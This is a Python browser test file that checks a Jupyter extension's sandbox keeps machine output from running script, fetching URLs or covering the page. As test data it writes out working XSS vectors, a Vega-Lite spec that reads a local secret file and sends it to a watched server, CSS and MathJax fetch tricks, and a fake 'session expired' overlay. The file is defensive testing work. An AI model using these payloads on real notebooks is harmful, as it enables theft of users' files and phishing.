"""Issue 9 in a real browser: script from a machine never runs in JupyterLab.

Machine cells emit each script vector (``<script>``, ``<img onerror>``, SVG ``onload``
inline and as image/svg+xml, ``application/javascript``, a ``javascript:`` link, and the
same in a cell's Out[n]). Each tries to set ``window.__pwned`` and to fetch a URL on a
local server this test watches. Nothing may run, while a pandas table, a PNG and a plotly
figure (sent as JSON data) made in the machine still render. Then the same kind of vector is run with ``%smol trust on``
(the weakened host): it runs, which shows the test would see an escape. Screenshots go
to tests/artifacts/.
"""

from __future__ import annotations

import contextlib
import http.server
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from browserhelpers import (
    ARTIFACTS,
    BROWSER_TEST_MARKS,
    browser_page,
    jupyter_server,
    notebook_url,
    run_all,
    write_notebook,
)

pytestmark = BROWSER_TEST_MARKS

SETUP = '''%%smol
import base64, struct, sys, zlib
class H:
    def __init__(self, **d): self.d = d
    def _repr_html_(self): return self.d.get('html')
    def _repr_svg_(self): return self.d.get('svg')
    def _repr_markdown_(self): return self.d.get('md')
    def _repr_png_(self): return self.d.get('png')
    def __repr__(self): return 'H'
def hit(name):
    return "window.__pwned='%s';fetch('http://127.0.0.1:{port}/%s')" % (name, name)
def png(w, h):
    row = b'\\x00' + b'\\xd0\\x20\\x20' * w
    chunk = lambda t, d: struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d))
    return (b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0))
            + chunk(b'IDAT', zlib.compress(row * h)) + chunk(b'IEND', b''))
agent = sys.modules['smolbench_guest']._agent
'''
VECTORS = '''%%smol
import pandas as pd
display(H(html='<p class="v-script">script</p><script>' + hit('safe-script') + '</script>'))
display(H(html='<img class="v-img" src="x" onerror="' + hit('safe-img') + '">'))
display(H(html='<svg class="v-svg" onload="' + hit('safe-svg-inline') + '"><rect width="5" height="5"/></svg>'))
display(H(svg='<svg xmlns="http://www.w3.org/2000/svg" onload="' + hit('safe-svg') + '"><rect width="5" height="5"/></svg>'))
display(H(html='<a id="jslink" href="javascript:' + hit('safe-link') + '">click me</a>'))
display(H(md='**md** [mdlink](javascript:' + hit('safe-md') + ')'))
agent.send({'t': 'display', 'data': {'application/javascript': hit('safe-js'), 'text/plain': 'js'}})
display(pd.DataFrame({'alpha': [1, 2], 'beta': ['x', 'y']}))
display(H(png=png(40, 30)))
import plotly.graph_objects as go
display(go.Figure(go.Bar(x=['a', 'b'], y=[3, 5])))
H(html='<b class="v-result">result</b><script>' + hit('safe-result') + '</script>')
'''
TRUSTED = '''%%smol
display(H(html='<img class="v-trusted" src="x" onerror="' + hit('trusted-img') + '">'))
'''


class _Watcher(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
        self.hits.append(self.path)
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def watched() -> Iterator[tuple[int, list[str]]]:
    """A local server that records every request a page makes to it."""
    hits: list[str] = []
    handler = type("Watcher", (_Watcher,), {"hits": hits})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1], hits
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def lab(tmp_path: Path, watched: tuple[int, list[str]]) -> Iterator[tuple[str, list[str], int]]:
    port_w, hits = watched
    # every cell can run twice (Run All is retried when a loaded host made JupyterLab drop it)
    cells = ["%load_ext smolbench", "%smol down\n%smol up --backend sandbox", SETUP.replace("{port}", str(port_w)),
             VECTORS, "%smol trust on", TRUSTED, "print('ALL' + ' DONE')"]
    write_notebook(tmp_path / "xss.ipynb", cells)
    with jupyter_server(tmp_path, "lab") as (base, token):
        yield notebook_url(base, token, "lab", "xss.ipynb"), hits, len(cells)


def test_machine_output_cannot_run_script_in_jupyterlab(lab: tuple[str, list[str], int]) -> None:
    from playwright.sync_api import expect

    url, hits, cells = lab
    ARTIFACTS.mkdir(exist_ok=True)
    with browser_page(1400, 1600) as page:
        try:
            page.goto(url)
            page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=60_000)
            for attempt in range(3):
                run_all(page, cells)
                try:
                    expect(page.locator(".jp-OutputArea-output", has_text="ALL DONE")).to_be_visible(timeout=90_000)
                    break
                except AssertionError:
                    if attempt == 2:
                        raise
            vectors = page.locator(".jp-Notebook .jp-Cell").nth(3)
            # what must still render: the pandas table, the PNG, the harmless markup
            table = vectors.locator("table.dataframe")
            expect(table).to_be_visible()
            expect(table.locator("th", has_text="alpha")).to_be_visible()
            img = vectors.locator("img[src^='data:image/png']")
            expect(img).to_be_visible()
            assert img.evaluate("el => [el.naturalWidth, el.naturalHeight]") == [40, 30]
            expect(vectors.locator(".js-plotly-plot .bars path")).to_have_count(2, timeout=30_000)  # plotly JSON
            expect(vectors.locator("p.v-script")).to_have_text("script")
            expect(vectors.locator("b.v-result")).to_have_text("result")
            expect(vectors.locator("strong", has_text="md")).to_be_visible()
            expect(vectors.locator(".jp-OutputArea-output", has_text="application/javascript output")).to_be_visible()
            # the links lost their javascript: targets; clicking them does nothing
            for name in ("click me", "mdlink"):
                vectors.locator(".jp-OutputArea a", has_text=name).click()
            page.wait_for_timeout(1500)  # time for any fetch to land
            vectors.screenshot(path=str(ARTIFACTS / "xss_machine_output.png"))
            safe = [h for h in hits if "safe-" in h]
            assert safe == [], f"machine script ran in the browser: {safe}"
            # Weakened: trusted mode shows output raw, and its script does run
            expect(page.locator("img.v-trusted")).to_be_attached()
            page.wait_for_function("() => window.__pwned === 'trusted-img'", timeout=30_000)
            deadline = time.monotonic() + 10
            while "/trusted-img" not in hits and time.monotonic() < deadline:
                time.sleep(0.1)
            assert set(hits) == {"/trusted-img"}, hits
            page.screenshot(path=str(ARTIFACTS / "xss_notebook.png"), full_page=True)
        except BaseException:
            page.screenshot(path=str(ARTIFACTS / "xss_failure.png"), full_page=True)
            raise


# -- issue 17: output that fetches (Vega, CSS, plotly, SVG, Markdown) or restyles the page ----------

FETCH_SETUP = '''%%smol
import sys
agent = sys.modules['smolbench_guest']._agent
W = 'http://127.0.0.1:{port}'
def show(**bundle):
    agent.send({'t': 'display', 'data': bundle})
'''
# Each vector names the watched server (W) or a file next to the notebook (secret.txt)
FETCH_VECTORS = '''%%smol
LEAK = {'$schema': 'https://vega.github.io/schema/vega-lite/v5.json',
        'data': {'url': 'secret.txt', 'format': {'type': 'csv'}},
        'transform': [{'calculate': "'" + W + "/vega-exfil?d=' + datum.d", 'as': 'u'}],
        'mark': 'image', 'encoding': {'url': {'field': 'u', 'type': 'nominal'}}, 'width': 50, 'height': 50}
show(**{'application/vnd.vegalite.v5+json': LEAK, 'text/plain': 'vega-lite refused'})
show(**{'application/vnd.vega.v5+json': {'data': [{'name': 't', 'url': W + '/vega-data'}]}, 'text/plain': 'vega refused'})
show(**{'text/html': '<p class="v-css" style="background-image: image-set(url(' + W + '/css-image-set) 1x); color: rgb(200, 0, 0)">styled</p>'
        '<p style="cursor: -webkit-image-set(url(' + W + '/css-cursor) 1x), auto">cursor</p>'
        '<ul style="list-style: url(' + W + '/css-list)"><li>list</li></ul>'
        '<style>.v-css { background: image-set("' + W + '/css-style-block" 1x) } .jp-Toolbar, .jp-smolbench-status,'
        ' .jp-StatusBar-Widget { display: none !important } body { background: red !important }</style>'
        '<a class="v-expired" style="position: fixed; inset: 0; z-index: 100000; background: white; font-size: 60px"'
        ' href="' + W + '/expired">session expired: log in again</a>'
        '<div class="jp-Dialog">a page class</div>'})
show(**{'image/svg+xml': '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><style>rect{fill:url(' + W + '/svg-style)}</style>'
        '<image href="' + W + '/svg-image" width="5" height="5"/><rect width="20" height="20" style="fill: url(' + W + '/svg-attr)"/>'
        '<circle cx="30" cy="10" r="8" fill="blue"/></svg>'})
show(**{'text/markdown': '**md** ![rel](secret.txt) ![abs](' + W + '/md-image) [rel link](/api/contents/secret.txt)'})
show(**{'application/vnd.plotly.v1+json': {
    'data': [{'type': 'bar', 'x': ['a', 'b'], 'y': [3, 5]}],
    'layout': {'images': [{'source': W + '/plotly-image', 'xref': 'paper', 'yref': 'paper', 'x': 0, 'y': 1,
                           'sizex': 0.5, 'sizey': 0.5}],
               'annotations': [{'text': '<span style="cursor: url(' + W + '/plotly-text), auto">note</span>', 'x': 'a', 'y': 3}]}}})
# MathJax, which JupyterLab runs over HTML outputs, fetches from TeX (third audit)
MATH = r'$\\mmlToken{mglyph}[src="' + W + r'/%s"]{}$ and $\\style{cursor:url(' + W + r'/%s-cursor),auto}{x}$'
show(**{'text/html': '<p>' + MATH % ('mj-html', 'mj-html') + '</p><span class="tex2jax_process mathjax_process">'
        + MATH % ('mj-process', 'mj-process') + '</span>'})
show(**{'text/markdown': 'md ' + MATH % ('mj-md', 'mj-md')})
show(**{'application/vnd.plotly.v1+json': {'data': [{'type': 'scattermap', 'subplot': 'map2', 'lat': [0], 'lon': [0]}],
                                           'layout': {'map2': {'style': W + '/plotly-map2-style'}}}})
'''
# a fork's Out[n] table holds each branch's error text, which the machine chose
FETCH_FORK = '''%%smol fork 2 --allow-errors
raise ValueError(MATH % ('mj-fork', 'mj-fork'))
'''
FETCH_TRUSTED = '''%%smol
T = dict(LEAK, data={'url': 'trusted-secret.csv', 'format': {'type': 'csv'}},
         transform=[{'calculate': "'" + W + "/trusted-exfil?d=' + datum.d", 'as': 'u'}])
show(**{'application/vnd.vegalite.v5+json': T, 'text/plain': 'vega-lite'})
show(**{'text/html': '<p>' + MATH % ('trusted-mj', 'trusted-mj') + '</p>'})
'''


@pytest.fixture
def fetch_lab(tmp_path: Path, watched: tuple[int, list[str]]) -> Iterator[tuple[str, list[str], int]]:
    port_w, hits = watched
    for name in ("secret.txt", "trusted-secret.csv"):
        (tmp_path / name).write_text("d\nthe-users-secret\n")
    cells = ["%load_ext smolbench", "%smol down\n%smol up --backend sandbox", FETCH_SETUP.replace("{port}", str(port_w)),
             FETCH_VECTORS, FETCH_FORK, "print('ALL' + ' DONE')", "%smol trust on", FETCH_TRUSTED,
             "print('TRUSTED' + ' DONE')"]
    write_notebook(tmp_path / "fetch.ipynb", cells)
    with jupyter_server(tmp_path, "lab") as (base, token):
        yield notebook_url(base, token, "lab", "fetch.ipynb"), hits, len(cells)


OUTSIDE = """() => {
  const hits = [];
  const probe = (name, el) => {
    if (!el) { hits.push(name + ': missing'); return; }
    const r = el.getBoundingClientRect();
    const top = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
    if (!top || top.closest('.jp-OutputArea')) hits.push(name + ': covered by output');
    const cs = getComputedStyle(el);
    if (cs.display === 'none' || cs.visibility === 'hidden' || r.width === 0) hits.push(name + ': hidden');
  };
  probe('toolbar', document.querySelector('.jp-NotebookPanel-toolbar'));
  probe('smolbench status', document.querySelector('.jp-smolbench-status'));
  probe('menu bar', document.querySelector('#jp-menu-panel, .lm-MenuBar'));
  const bg = getComputedStyle(document.body).backgroundColor;
  if (bg === 'rgb(255, 0, 0)') hits.push('body restyled');
  for (const el of document.querySelectorAll('.jp-OutputArea *')) {
    const p = getComputedStyle(el).position;
    if (p === 'fixed') hits.push('fixed element in an output: ' + el.outerHTML.slice(0, 80));
  }
  return hits;
}"""


def test_machine_output_cannot_fetch_or_restyle_the_page_in_jupyterlab(
        fetch_lab: tuple[str, list[str], int]) -> None:
    from playwright.sync_api import expect

    url, hits, cells = fetch_lab
    ARTIFACTS.mkdir(exist_ok=True)
    with browser_page(1400, 1600) as page:
        requests: list[str] = []
        page.on("request", lambda r: requests.append(r.url))
        console: list[str] = []
        page.on("console", lambda m: console.append(m.text))
        try:
            page.goto(url)
            page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=60_000)
            for attempt in range(3):
                run_all(page, cells)
                try:
                    expect(page.locator(".jp-OutputArea-output", has_text="ALL DONE")).to_be_visible(timeout=90_000)
                    break
                except AssertionError:
                    if attempt == 2:
                        raise
            vectors = page.locator(".jp-Notebook .jp-Cell").nth(3)
            # what is harmless still renders: the colour, the shapes, the markdown, the plot
            expect(vectors.locator("strong", has_text="md")).to_be_visible()
            expect(vectors.locator(".js-plotly-plot .bars path")).to_have_count(2, timeout=30_000)
            page.wait_for_timeout(2000)  # time for any fetch to land
            # (the trusted cells below may already have run: their requests are named trusted-)
            leaked = [h for h in hits if not h.startswith("/trusted-")]
            assert leaked == [], f"machine output fetched from the watched server: {leaked}"
            secret = [u for u in requests if "/secret.txt" in u or "/files/" in u and "trusted-" not in u]
            assert secret == [], f"machine output made the browser read the Jupyter server: {secret}"
            assert page.evaluate(OUTSIDE) == [], "machine output changed the page outside its output"
            expect(vectors.locator("p.v-css")).to_have_css("color", "rgb(200, 0, 0)")  # a safe style stays
            vectors.screenshot(path=str(ARTIFACTS / "fetch_machine_output.png"))
            expect(vectors.locator(".jp-OutputArea-output", has_text="vega-lite refused")).to_be_visible()
            expect(vectors.locator(".jp-OutputArea-output",
                                   has_text="application/vnd.vegalite.v5+json output, which was not shown")).to_be_visible()

            # Weakened: trusted mode renders the Vega-Lite spec, which reads the file next to the
            # notebook through the Jupyter server (with the user's cookies) and sends it out
            expect(page.locator(".jp-OutputArea-output", has_text="TRUSTED DONE")).to_be_visible(timeout=90_000)
            trusted = page.locator(".jp-Notebook .jp-Cell").nth(7)
            trusted.scroll_into_view_if_needed()
            deadline = time.monotonic() + 30
            while not ({"/trusted-exfil?d=the-users-secret", "/trusted-mj"} <= set(hits)) and time.monotonic() < deadline:
                time.sleep(0.2)
            assert any("trusted-secret.csv" in u for u in requests)
            assert "/trusted-exfil?d=the-users-secret" in hits, hits
            assert "/trusted-mj" in hits, hits  # MathJax is on in this JupyterLab: without the gate's wrapper it fetches
        except BaseException:
            with contextlib.suppress(Exception):
                page.screenshot(path=str(ARTIFACTS / "fetch_failure.png"), timeout=10_000)
            (ARTIFACTS / "fetch_failure.txt").write_text("\n".join(["requests:", *requests, "console:", *console]))
            raise


# -- issue 25 items 2 and 3: a CSS bad string draws an overlay; plotly text fetches and links ---------

OVERLAY_SETUP = '''%%smol
import sys
agent = sys.modules['smolbench_guest']._agent
W = 'http://127.0.0.1:{port}'
def show(**bundle):
    agent.send({'t': 'display', 'data': bundle})
FIXED = 'position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647'
def expired(end, name):
    return ('<a class="v-overlay" style="font-family: \\'x' + end + '; ' + FIXED + '; background: white; font-size: 40px"'
            ' href="' + W + '/expired">session expired (' + name + '), sign in again</a>')
def fig(tag):
    esc = '\\\\75 rl(' + W + '/' + tag
    rel = '<a x="b"href="/api/contents/secret.txt?content=1">' + tag + ' secret</a>'
    return {'data': [{'type': 'bar', 'x': ['a', 'b'], 'y': [3, 5], 'name': rel,
                      'hovertext': ['<span x="a"style="fill:' + esc + '-hover)">hover</span>', 'b'],
                      'text': ['<b x="a"style="cursor:' + esc + '-cursor-text), auto">t</b>', '<b>five</b>']}],
            'layout': {'showlegend': True, 'width': 600, 'height': 360,
                       'title': {'text': rel},
                       'xaxis': {'title': {'text': '<b x="a"style="-webkit-mask-image:' + esc + '-mask)">axis</b>'}},
                       'annotations': [{'text': rel, 'x': 'a', 'y': 3},
                                       {'text': '<span x="a"style="fill:' + esc + '-fill)">fill</span>', 'x': 'b', 'y': 5},
                                       {'text': '<span x="a"style="cursor:' + esc + '-cursor), auto">cursor</span>', 'x': 'b', 'y': 3},
                                       {'text': '<span x="a"style="font-size:500px">BIG</span>', 'x': 'b', 'y': 1},
                                       {'text': '<a href="https://example.org/">' + tag + ' docs</a>', 'x': 'a', 'y': 1}]}}
'''
OVERLAY_VECTORS = '''%%smol
show(**{'text/html': expired('\\n', 'LF') + expired('\\r', 'CR') + expired('\\f', 'FF') + expired('\\r\\n', 'CRLF')
        + '<p class="v-kept" style="color: rgb(200, 0, 0); font-family: \\'x\\n; position: absolute; inset: 0">kept colour</p>'})
show(**{'text/markdown': '**md**\\n\\n<div style="font-family: \\'x\\n; ' + FIXED + '; background: white">md expired</div>\\n'})
'''
PLOT_VECTORS = '''%%smol
show(**{'application/vnd.plotly.v1+json': fig('plotly')})
'''
OVERLAY_TRUSTED = '''%%smol
show(**{'text/html': '<b class="v-trusted" style="font-family: \\'x\\n; position: fixed; right: 0; bottom: 0;'
        ' width: 9px; height: 9px; background: red">.</b>'})
show(**{'application/vnd.plotly.v1+json': fig('trusted')})
'''

# Every element of a machine's output that reaches outside the output area it is in.
ESCAPES = """(cells) => {
  const out = [];
  for (const i of cells) {
    const cell = document.querySelectorAll('.jp-Notebook .jp-Cell')[i];
    for (const area of cell.querySelectorAll('.jp-OutputArea-output')) {
      const a = area.getBoundingClientRect();
      for (const el of area.querySelectorAll('*')) {
        const r = el.getBoundingClientRect();
        if (r.width === 0 && r.height === 0) continue;
        if (r.left < a.left - 1 || r.top < a.top - 1 || r.right > a.right + 1 || r.bottom > a.bottom + 1)
          out.push(el.tagName + ' ' + JSON.stringify([r.left, r.top, r.right, r.bottom].map(Math.round)) + ' outside '
                   + JSON.stringify([a.left, a.top, a.right, a.bottom].map(Math.round)) + ': '
                   + (el.outerHTML || '').slice(0, 100));
      }
    }
  }
  return out;
}"""
# Links in a cell's plots, and which of them are not absolute http(s).
PLOT_LINKS = """(i) => {
  const cell = document.querySelectorAll('.jp-Notebook .jp-Cell')[i];
  const all = [...cell.querySelectorAll('.js-plotly-plot a')].map(
    a => a.getAttribute('href') || a.getAttribute('xlink:href') || (a.href && a.href.baseVal) || '');
  return [all, all.filter(h => !/^https?:\\/\\//i.test(h))];
}"""


@pytest.fixture(params=["lab", "notebook"])
def overlay_app(request: pytest.FixtureRequest, tmp_path: Path,
                watched: tuple[int, list[str]]) -> Iterator[tuple[str, str, list[str], int]]:
    port_w, hits = watched
    (tmp_path / "secret.txt").write_text("the-users-secret\n")
    cells = ["%load_ext smolbench", "%smol down\n%smol up --backend sandbox",
             OVERLAY_SETUP.replace("{port}", str(port_w)), OVERLAY_VECTORS, PLOT_VECTORS, "print('ALL' + ' DONE')",
             "%smol trust on", OVERLAY_TRUSTED, "print('TRUSTED' + ' DONE')"]
    write_notebook(tmp_path / "overlay.ipynb", cells)
    with jupyter_server(tmp_path, request.param) as (base, token):
        yield request.param, notebook_url(base, token, request.param, "overlay.ipynb"), hits, len(cells)


def test_css_bad_strings_and_plotly_attributes_neither_cover_the_page_nor_fetch(
        overlay_app: tuple[str, str, list[str], int]) -> None:
    """The audit's overlay (JupyterLab and Notebook 7) and plot (fetches on render and hover,
    page-relative links): nothing reaches the watcher, nothing leaves its output area, no
    relative link is in the plot. The trusted cells are the contrast: the same vectors shown
    raw do all three, so the checks can see them."""
    from playwright.sync_api import expect

    app, url, hits, cells = overlay_app
    ARTIFACTS.mkdir(exist_ok=True)
    with browser_page(1400, 1600) as page:
        requests: list[str] = []
        page.on("request", lambda r: requests.append(r.url))
        try:
            page.goto(url)
            page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=60_000)
            for attempt in range(3):
                run_all(page, cells)
                try:
                    expect(page.locator(".jp-OutputArea-output", has_text="TRUSTED DONE")).to_be_visible(timeout=120_000)
                    break
                except AssertionError:
                    if attempt == 2:
                        raise
            html, plot = page.locator(".jp-Notebook .jp-Cell").nth(3), page.locator(".jp-Notebook .jp-Cell").nth(4)
            # what is harmless still shows: the link text, the kept colour, the markdown, the plot
            expect(html.locator("a", has_text="session expired (LF)")).to_be_visible()
            expect(html.locator("p.v-kept")).to_have_css("color", "rgb(200, 0, 0)")
            expect(html.locator("strong", has_text="md")).to_be_visible()
            expect(plot.locator(".js-plotly-plot .bars path")).to_have_count(2, timeout=60_000)
            # hover what plotly draws (bars, title, annotations, legend): a cursor loads only then
            for target in (plot.locator(".js-plotly-plot .bars path").first, plot.locator(".js-plotly-plot .gtitle"),
                           plot.locator(".js-plotly-plot .annotation").first, plot.locator(".js-plotly-plot .legendtext"),
                           plot.locator(".js-plotly-plot .bars path").last):
                target.hover(force=True)
                page.wait_for_timeout(500)
            page.wait_for_timeout(1500)  # time for any fetch to land
            plot.screenshot(path=str(ARTIFACTS / f"overlay_plot_{app}.png"))
            page.screenshot(path=str(ARTIFACTS / f"overlay_{app}.png"))
            leaked = [h for h in hits if not h.startswith("/trusted-")]
            assert leaked == [], f"machine output fetched from the watched server: {leaked}"
            secret = [u for u in requests if "secret.txt" in u]
            assert secret == [], f"machine output made the browser read the Jupyter server: {secret}"
            assert page.evaluate(ESCAPES, [3, 4]) == [], "machine output reaches outside its output area"
            links, relative = page.evaluate(PLOT_LINKS, 4)
            assert relative == [], f"a page-relative link survived in the plot: {links}"
            assert "https://example.org/" in links, links  # an absolute link stays a link

            # Contrast: the same kinds of vector shown raw (%smol trust on) escape each check
            trusted = 7
            expect(page.locator(".jp-Notebook .jp-Cell").nth(trusted).locator(".js-plotly-plot .bars path")
                   ).to_have_count(2, timeout=60_000)
            assert page.evaluate(ESCAPES, [trusted]), "the overlay check can't see a fixed element"
            assert page.evaluate(PLOT_LINKS, trusted)[1], "the link check can't see a relative link"
            deadline = time.monotonic() + 30
            while not any(h.startswith("/trusted-") for h in hits) and time.monotonic() < deadline:
                time.sleep(0.2)
            assert any(h.startswith("/trusted-") for h in hits), hits
        except BaseException:
            with contextlib.suppress(Exception):
                page.screenshot(path=str(ARTIFACTS / f"overlay_failure_{app}.png"), timeout=10_000)
            (ARTIFACTS / f"overlay_failure_{app}.txt").write_text("\n".join(["hits:", *hits, "requests:", *requests]))
            raise
